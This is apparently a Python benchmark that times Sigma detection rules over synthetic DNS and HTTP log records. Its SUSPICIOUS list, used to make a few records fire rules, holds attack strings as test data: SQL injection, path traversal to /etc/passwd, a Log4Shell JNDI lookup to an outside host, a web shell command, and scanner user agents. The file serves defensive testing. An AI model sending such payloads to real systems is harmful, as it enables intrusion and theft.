"""How fast rules are: a folder of Sigma rules over generated DNS and HTTP records, in rule x rows a CPU second.

Only pairs that are looked at count: a rule and a row of its log type ("after routing"). The records repeat themselves
as real ones do (PROTOCOL says how much), since what is repeated is looked at once.
"""

from __future__ import annotations

import random
import time
from collections.abc import Iterable, Sequence
from itertools import accumulate
from pathlib import Path
from string import ascii_lowercase
from typing import Any, Final

from adapters.rulebook import read_rules
from domain.values import SECOND
from engine.frame import Frame
from engine.rules.matcher import Matcher
from engine.rules.ruleset import RuleSet
from engine.rules.sigma import Rule

PROTOCOL = (
    "rules compiled once (not timed); records generated (seed), in frames of the given size, four kinds interleaved at "
    "random: 40% dns, 20% http (our clients), 20% proxy (absolute URIs), 20% webserver (outside clients); 3,000 hosts "
    "with 20 pages each by Zipf's law (s=1.1), a quarter of the URIs with a query and a sixth of the names with "
    "a label of their own, 60 user agents by Zipf's law, 0.4% of the records made to match some rule; nothing is "
    "remembered at the beginning; time is the process's CPU time (one thread), median of the rounds; rule x rows = for "
    "each record the number of rules of its log type"
)

START: Final = 1_772_438_400 * SECOND
HOSTS: Final = 3_000
PAGES: Final = 20
FIRSTS: Final = ("www", "api", "cdn", "static", "mail")
LASTS: Final = ("com", "com", "com", "net", "org", "de", "io", "co.uk", "cloud", "live")
ENDS: Final = ("", "", ".html", ".js", ".png", ".css", ".json", ".php", ".aspx")
SYSTEMS: Final = ("Windows NT 10.0; Win64; x64", "X11; Linux x86_64", "Macintosh; Intel Mac OS X 14_2")
KINDS: Final = ("dns", "dns", "http", "proxy", "webserver")

MIMES: Final = ("text/html", "image/png", "text/json")
SUSPICIOUS: Final = (
    {"uri": "/index.php?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--"},
    {"uri": "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
    {"user_agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"},
    {"uri": "/?x=${jndi:ldap://198.51.100.7/a}"},
    {"uri": "/wp-content/uploads/shell.aspx?cmd=whoami", "status_code": 200},
    {"user_agent": "Mozilla/5.0 (Hydra)"},
    {"uri": "/downloads/setup.class"},
)


def measure(
    rules: Path, *, rows: int = 100_000, seed: int = 1, frame_rows: int = 1_000, rounds: int = 3
) -> dict[str, Any]:
    """Figures of the rules in a folder: rule x rows a second, over all and by family."""
    ruleset = RuleSet.of(read_rules([rules])[0])
    table = records(rows, seed)
    families: dict[str, list[Rule]] = {"all": list(ruleset.rules)}
    for rule in ruleset.rules:
        family = f"{rule.source.log}_{rule.category}" if rule.category != rule.source.log else rule.category
        families.setdefault(family, []).append(rule)
    figures: dict[str, float] = {"rules": len(ruleset.rules), "rows": rows, "frame_rows": frame_rows}
    for family, some in families.items():
        if {rule.source.log for rule in some} & {"dns", "http"}:
            figures |= {f"{family}_{name}": value for name, value in _family(some, table, frame_rows, rounds).items()}
    return {
        "name": "rules",
        "figures": figures,
        "protocol": PROTOCOL,
        "data": f"{len(ruleset.rules)} rules of {rules.name}; {rows} generated records, seed {seed}",
    }


def _family(rules: Sequence[Rule], table: list[tuple[Any, ...]], frame_rows: int, rounds: int) -> dict[str, float]:
    logs = {rule.source.log for rule in rules}
    asked = {log: sum(rule.source.log == log for rule in rules) for log in logs}
    mine = [row for row in table if row[3] in logs]
    pairs = sum(asked[row[3]] for row in mine)
    seconds, hits = zip(*(_once(rules, mine, frame_rows) for _ in range(rounds)), strict=True)
    spent = sorted(seconds)[len(seconds) // 2]
    return {
        "rules": len(rules), "rule_rows": pairs, "hits": hits[0],
        "rule_rows_per_second": round(pairs / spent), "records_per_second": round(len(mine) / spent),
    }  # fmt: skip


def _once(rules: Sequence[Rule], table: list[tuple[Any, ...]], frame_rows: int) -> tuple[float, int]:
    """CPU seconds and hits of one pass."""
    matcher = Matcher(rules)
    frames = [Frame.of(table[begin : begin + frame_rows]) for begin in range(0, len(table), frame_rows)]
    started = time.process_time()
    hits = sum(len(rows) for frame in frames for _, _, rows in matcher.match(frame))
    return time.process_time() - started, hits


class _Web:
    """A small web and its visitors: names, pages and agents, drawn by Zipf's law."""

    def __init__(self, seed: int) -> None:
        dice = self.dice = random.Random(seed)
        self.words = ["".join(dice.choices(ascii_lowercase, k=dice.randint(4, 11))) for _ in range(4_000)]
        self.hosts = [f"{dice.choice(FIRSTS)}.{dice.choice(self.words)}.{dice.choice(LASTS)}" for _ in range(HOSTS)]
        self.agents = [
            f"Mozilla/5.0 ({dice.choice(SYSTEMS)}) AppleWebKit/537.36 Chrome/{number}.0.0.0 Safari/537.36"
            for number in range(80, 140)
        ]
        self.pages = {host: [self._page() for _ in range(PAGES)] for host in self.hosts}
        self._weights: dict[int, list[float]] = {}

    def _page(self) -> str:
        return "/" + "/".join(self.dice.choices(self.words, k=self.dice.randint(1, 4))) + self.dice.choice(ENDS)

    def popular(self, values: Sequence[str]) -> str:
        """One of the values, the first ones most often."""
        size = len(values)
        if size not in self._weights:
            self._weights[size] = list(accumulate(1 / rank**1.1 for rank in range(1, size + 1)))
        return self.dice.choices(values, cum_weights=self._weights[size])[0]

    def name(self) -> str:
        """A name that is asked for."""
        host = self.popular(self.hosts)
        return f"{self.dice.getrandbits(40):010x}.{host}" if self.dice.random() < 1 / 6 else host

    def uri(self, host: str) -> str:
        """A page of a host, at times with a query of its own."""
        page, dice = self.popular(self.pages[host]), self.dice
        return f"{page}?id={dice.getrandbits(48):012x}&v={dice.choice(self.words)}" if dice.random() < 0.25 else page


def records(rows: int, seed: int) -> list[tuple[Any, ...]]:
    """Generated records as the tuples of a frame; see PROTOCOL for what they are like."""
    web = _Web(seed)
    return [_record(number, web) for number in range(1, rows + 1)]


def _record(number: int, web: _Web) -> tuple[Any, ...]:
    dice = web.dice
    kind = dice.choice(KINDS)
    inside = f"10.0.{dice.randrange(4)}.{dice.randrange(1, 250)}"
    outside = f"198.51.{dice.randrange(99)}.{dice.randrange(1, 250)}"
    if kind == "dns":
        detail: dict[str, Any] = {
            "query": web.name(), "qtype_name": dice.choice(("A", "A", "A", "AAAA", "HTTPS", "TXT")),
            "rcode_name": "NOERROR", "answers": [outside], "rejected": False, "Z": 0,
        }  # fmt: skip
        return _row(number, "dns", (inside, "10.0.0.2", 53), detail)
    host = web.popular(web.hosts)
    page = web.uri(host)
    detail = {
        "method": dice.choice(("GET", "GET", "GET", "GET", "POST")), "host": host,
        "uri": f"http://{host}{page}" if kind == "proxy" else page, "user_agent": web.popular(web.agents),
        "version": "1.1", "status_code": dice.choice((200, 200, 200, 200, 304, 302, 404)), "request_body_len": 0,
        "response_body_len": dice.randrange(50_000), "resp_mime_types": [dice.choice(MIMES)],
    }  # fmt: skip
    if dice.random() < 0.4:
        detail["referrer"] = f"http://{host}/"
    if dice.random() < 0.004:
        detail |= dice.choice(SUSPICIOUS)
    ends = {"webserver": (outside, "10.0.0.80", 80), "proxy": (inside, "10.0.0.3", 3128), "http": (inside, outside, 80)}
    return _row(number, "http", ends[kind], detail)


def _row(number: int, log: str, ends: tuple[str, str, int], detail: dict[str, Any]) -> tuple[Any, ...]:
    ts = START + number * SECOND // 500
    canonical = (ends[0], 40_000 + number % 20_000, ends[1], ends[2], "udp" if log == "dns" else "tcp")
    return (number, number, "", log, 200, ts, False, log, ts, *canonical, "", 0.0, 0, 0, 0, 0, "", detail, b"")


def show(lines: Iterable[tuple[str, float]]) -> str:
    """Figures, one a line."""
    return "\n".join(f"  {name:<48} {value:>16,.0f}" for name, value in lines)


if __name__ == "__main__":
    import sys

    document = measure(Path(sys.argv[1]), frame_rows=int(sys.argv[2]) if len(sys.argv) > 2 else 1_000)
    print(show(document["figures"].items()))  # noqa: T201 - the answer
